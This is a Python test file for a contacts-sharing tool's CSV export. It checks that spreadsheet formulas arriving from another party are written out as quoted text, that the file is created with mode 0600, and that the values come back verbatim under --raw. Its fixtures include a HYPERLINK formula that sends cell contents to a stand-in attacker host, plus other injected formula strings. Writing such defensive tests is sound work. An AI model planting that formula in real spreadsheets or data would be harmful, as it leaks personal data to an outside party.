"""A hostile granter's formula reaches the subscriber's export as text (issue 11, item 9).

Real party and campaign nodes: the party's people carry spreadsheet formulas (one typed
through the API, one written into its SQLite file with another tool); campaign A receives
them over a real share and exports. The spreadsheet-safe CSV shows them as text, the file
is 0600, and `--raw` gives the values back verbatim.
"""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

from shares_helpers import Trio, run_cli, wait_until

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2&C2,"Open")'


def read_csv(path: Path) -> dict[str, dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return {row["email"]: row for row in csv.DictReader(handle)}


async def test_a_received_formula_exports_as_text_and_0600(trio: Trio, tmp_path: Path) -> None:
    party, a = trio.party, trio.a
    party.add_person(first_name=HYPERLINK, last_name="Lee", email="eve@example.org",
                     phone="+1 614 555 0142", city="Columbus")
    mallory = party.add_person(first_name="Mal", email="mal@example.org")
    # Another SQLite tool on the party's file: values the CLI would have trimmed.
    party.execute("UPDATE people SET last_name = ?, city = ? WHERE uuid = ?",
                  ("\t=1+1", "@SUM(A1:A9)", mallory))
    await trio.active(a)
    await wait_until(lambda: len(a.received_people(party)) == 2
                     and any(r["city"] == "@SUM(A1:A9)"
                             for r in a.received_people(party).values()),
                     message="both people reach A")

    previous = os.umask(0o022)
    try:
        safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
        assert (await run_cli(a, "people", "export", str(safe))).exit_code == 0
        assert (await run_cli(a, "people", "export", str(raw), "--raw")).exit_code == 0
    finally:
        os.umask(previous)

    assert stat.S_IMODE(safe.stat().st_mode) == 0o600
    assert stat.S_IMODE(raw.stat().st_mode) == 0o600
    cells = read_csv(safe)
    assert cells["eve@example.org"]["first_name"] == "'" + HYPERLINK
    assert cells["eve@example.org"]["phone"] == "+16145550142"
    assert cells["mal@example.org"]["last_name"] == "'\t=1+1"
    assert cells["mal@example.org"]["city"] == "'@SUM(A1:A9)"
    verbatim = read_csv(raw)
    assert verbatim["eve@example.org"]["first_name"] == HYPERLINK
    assert verbatim["mal@example.org"]["last_name"] == "\t=1+1"
